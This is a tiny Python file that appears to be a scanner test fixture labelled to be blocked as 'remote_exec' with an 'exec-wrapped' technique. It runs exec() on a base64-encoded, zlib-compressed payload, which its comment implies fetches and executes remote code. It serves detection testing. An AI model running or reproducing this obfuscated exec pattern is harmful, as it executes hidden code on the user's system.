# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/requests_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw9zU0KgzAQhuF9TjHYjUIZ/7oquPMAvYIkgwo1kzpfqN6+lEK37+J5LzTqOz51CkaPE4tG8hqEphhIDvEZYrSC3bol3UG7vLIYzDnTvHuh4Z94FpTFAiS713XX9Nxw2/Z8qw3TLB2ns7gS1k00Y2ibiiEH3PdS/rDqA7zVMBY=')))
